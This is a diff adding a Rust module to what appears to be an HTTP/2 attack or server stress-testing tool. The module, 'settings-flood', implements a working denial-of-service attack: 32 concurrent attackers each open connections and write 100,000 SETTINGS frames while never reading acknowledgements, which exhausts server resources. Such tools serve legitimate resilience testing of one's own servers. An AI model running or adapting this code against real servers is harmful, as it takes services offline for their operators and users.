@@ -1,0 +1,25 @@
+//! Sends HTTP/2 SETTINGS, and reads no acknowledgement.
+
+use super::{Attack, WITH_HTTP2};
+use crate::{aim::Aim, frames};
+use anyhow::Result;
+use futures::FutureExt as _;
+use tokio::io::AsyncWriteExt;
+
+pub(super) const ATTACK: Attack = Attack {
+    name: "settings-flood",
+    about: "Sends HTTP/2 SETTINGS, and reads no acknowledgement",
+    targets: WITH_HTTP2,
+    attackers: 32,
+    once: |aim| once(aim).boxed(),
+};
+
+async fn once(aim: Aim) -> Result<()> {
+    let mut stream = aim.connect_http2(&[]).await?;
+    let many = frames::settings(&[(frames::INITIAL_WINDOW_SIZE, 1000)]).repeat(1000);
+    for _ in 0..100 {
+        stream.write_all(&many).await?;
+    }
+    aim.ignore(stream).await;
+    Ok(())
+}
